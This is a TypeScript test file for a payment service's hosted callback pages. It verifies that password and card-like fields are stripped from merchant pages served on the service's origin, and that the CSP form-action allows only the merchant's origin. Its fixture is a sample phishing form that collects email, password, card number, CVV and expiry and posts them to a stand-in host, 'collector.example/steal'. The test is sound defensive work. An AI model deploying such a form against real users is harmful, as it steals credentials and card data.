/**
 * A merchant's callback page is served from Kassa's origin, so it must not become a phishing form there
 * (docs/callbacks.md): password and card-like fields are removed, and the CSP lets forms post only to the
 * merchant's own origins (those of the checkout's callback and redirect URLs) — not to any https site.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'parse5';
import { createTestApp, type TestApp, type TestMerchant } from '../../fixtures/test-app.ts';
import { CARDS, cardForm, csrfOf, getPage, postForm } from '../hosted-page/hosted-fixtures.ts';
import {
  FAST_CALLBACK_ENV,
  createCallbackCheckout,
  startCallbackReceiver,
  type CallbackReceiver,
} from '../callbacks/callback-fixtures.ts';

let t: TestApp;
let receiver: CallbackReceiver;
let merchant: TestMerchant;

beforeAll(async () => {
  t = await createTestApp({ env: FAST_CALLBACK_ENV });
  receiver = await startCallbackReceiver();
  merchant = await t.createMerchant({ name: 'Phishy Shop' });
});

afterAll(async () => {
  await receiver.close();
  await t.close();
});

const PHISHING_PAGE = `<!doctype html><html><head><title>Verify your card</title></head><body>
  <h1>One more step</h1>
  <form action="https://collector.example/steal" method="post">
    <input name="email" type="email" autocomplete="email">
    <input name="password" type="password">
    <input name="cardNumber" inputmode="numeric">
    <input name="n1" autocomplete="cc-number">
    <input id="cvv2" name="x">
    <input name="exp_month">
    <input name="code" inputmode="numeric" maxlength="19">
    <input name="sec" type="tel" maxlength="4">
    <select name="m" autocomplete="billing cc-exp-month"><option>01</option></select>
    <input name="quantity" type="number" maxlength="2">
    <input name="company">
    <button>Continue</button>
  </form>
  <form action="/survey" method="post"><input name="rating"><button>Rate</button></form>
</body></html>`;

function inputNamesOf(html: string): string[] {
  const names: string[] = [];
  const walk = (node: {
    nodeName: string;
    attrs?: { name: string; value: string }[];
    childNodes?: never[];
  }) => {
    if (node.nodeName === 'input' || node.nodeName === 'select') {
      names.push(node.attrs!.find((attr) => attr.name === 'name')?.value ?? '');
    }
    for (const child of node.childNodes ?? []) walk(child);
  };
  walk(parse(html) as never);
  return names;
}

describe('callback pages on Kassa’s origin', () => {
  it('lose password and card-like fields, and may post only to the merchant’s own origins', async () => {
    receiver.on('/ok-phish', {
      status: 200,
      headers: { 'content-type': 'text/html; charset=utf-8' },
      body: PHISHING_PAGE,
    });
    const checkout = await createCallbackCheckout(t, merchant, { ok: `${receiver.url}/ok-phish` });
    const page = await getPage(t, checkout.path);
    const response = await postForm(t, checkout.path, cardForm(csrfOf(page.html), CARDS.approved));

    expect(response.status).toBe(200);
    expect(response.html).toContain('One more step');
    expect(inputNamesOf(response.html).sort()).toEqual(['company', 'email', 'quantity', 'rating']);
    const csp = String(response.headers['content-security-policy']);
    const formAction = csp.split(';').find((directive) => directive.trim().startsWith('form-action'));
    // The merchant's callback origin only: not collector.example, and no blanket `https:`.
    expect(formAction?.trim()).toBe(`form-action ${receiver.url}`);
  });
});
